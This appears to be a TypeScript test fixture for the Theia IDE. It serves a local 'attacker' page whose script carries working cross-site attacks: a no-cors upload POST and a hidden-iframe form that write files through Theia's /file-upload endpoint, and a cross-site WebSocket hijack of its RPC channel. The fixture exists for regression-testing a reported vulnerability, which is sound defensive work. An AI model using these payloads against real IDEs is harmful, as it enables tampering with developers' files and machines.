/**
 * What a hostile local web page has: its own HTTP server on another loopback port (the dev server of
 * the very code the agent writes), and a page on it that the user's browser opens next to the IDE.
 * The page's script is the attack; the test calls its functions through Playwright, so every request
 * leaves the browser from the attacker's origin with whatever cookies the browser would attach.
 */
import * as http from 'http';
import * as net from 'net';

/** The attacker page's script: each function is one thing a foreign page can do to the IDE. */
const ATTACK_SCRIPT = String.raw`
window.attack = {
    /** The issue's exploit: a no-cors multipart POST to Theia's upload endpoint (the response stays opaque). */
    async upload(ideOrigin, fileUri, content) {
        const form = new FormData();
        form.append('uri', fileUri);
        form.append('file', new Blob([content], { type: 'text/plain' }), 'payload');
        try {
            await fetch(ideOrigin + '/file-upload', { method: 'POST', mode: 'no-cors', credentials: 'include', body: form });
            return 'sent';
        } catch (e) {
            return 'network error: ' + e.message;
        }
    },
    /** The same as a plain HTML form, which needs no script at all (a navigation of a hidden iframe). */
    formUpload(ideOrigin, fileUri, content) {
        return new Promise(resolve => {
            const frame = document.createElement('iframe');
            frame.name = 'sink' + Math.random().toString(36).slice(2);
            document.body.appendChild(frame);
            const form = document.createElement('form');
            form.method = 'POST';
            form.enctype = 'multipart/form-data';
            form.action = ideOrigin + '/file-upload';
            form.target = frame.name;
            const uri = document.createElement('input');
            uri.name = 'uri';
            uri.value = fileUri;
            const file = document.createElement('input');
            file.type = 'file';
            file.name = 'file';
            const files = new DataTransfer();
            files.items.add(new File([content], 'payload', { type: 'text/plain' }));
            file.files = files.files;
            form.append(uri, file);
            document.body.appendChild(form);
            frame.addEventListener('load', () => resolve('submitted'), { once: true });
            form.submit();
        });
    },
    /** Cross-site WebSocket hijacking: Theia's RPC over socket.io, from this page. */
    socket(wsUrl) {
        return new Promise(resolve => {
            const ws = new WebSocket(wsUrl);
            const done = outcome => { clearTimeout(timer); try { ws.close(); } catch { /* closed */ } resolve(outcome); };
            const timer = setTimeout(() => done({ kind: 'timeout' }), 10000);
            ws.onmessage = e => done({ kind: 'open', firstMessage: String(e.data) });
            ws.onerror = () => done({ kind: 'error' });
            ws.onclose = e => done({ kind: 'closed', code: e.code });
        });
    }
};
document.title = 'attacker ready';
`;

/** One attacker web server, listening on 127.0.0.1 and (where the machine has it) [::1] on one port. */
export class AttackerSite {
    protected constructor(protected readonly servers: http.Server[], readonly port: number) { }

    static async start(): Promise<AttackerSite> {
        const handler: http.RequestListener = (_req, res) => {
            res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
            res.end(`<!doctype html><html><head><title>attacker</title></head><body><h1>Totally harmless dev server</h1>`
                + `<script>${ATTACK_SCRIPT}</script></body></html>`);
        };
        const v4 = http.createServer(handler);
        const port = await listen(v4, 0, '127.0.0.1');
        const servers = [v4];
        // `localhost` may resolve to ::1 first; serve there too so the page loads either way.
        const v6 = http.createServer(handler);
        try {
            await listen(v6, port, '::1');
            servers.push(v6);
        } catch {
            // No IPv6 loopback here: Chromium falls back to 127.0.0.1.
        }
        return new AttackerSite(servers, port);
    }

    /** The attacker page under a given loopback name (`127.0.0.1`, `localhost`). */
    url(hostname: string): string {
        return `http://${hostname}:${this.port}/`;
    }

    async stop(): Promise<void> {
        await Promise.all(this.servers.map(s => new Promise<void>(resolve => {
            s.closeAllConnections();
            s.close(() => resolve());
        })));
    }
}

function listen(server: http.Server, port: number, host: string): Promise<number> {
    return new Promise((resolve, reject) => {
        server.once('error', reject);
        server.listen(port, host, () => {
            server.off('error', reject);
            resolve((server.address() as net.AddressInfo).port);
        });
    });
}

/** A raw HTTP answer, body included (what an error page would leak). */
export interface RawAnswer {
    status: number;
    headers: http.IncomingHttpHeaders;
    body: string;
}

/** One HTTP request with chosen headers, as any local process (or a forged browser request) could send. */
export function rawRequest(port: number, method: string, urlPath: string, headers: Record<string, string>, body?: string): Promise<RawAnswer> {
    return new Promise((resolve, reject) => {
        const req = http.request({ host: '127.0.0.1', port, method, path: urlPath, headers }, res => {
            const chunks: Buffer[] = [];
            res.on('data', c => chunks.push(c));
            res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
        });
        req.setTimeout(10_000, () => req.destroy(new Error('HTTP request timed out')));
        req.on('error', reject);
        req.end(body);
    });
}
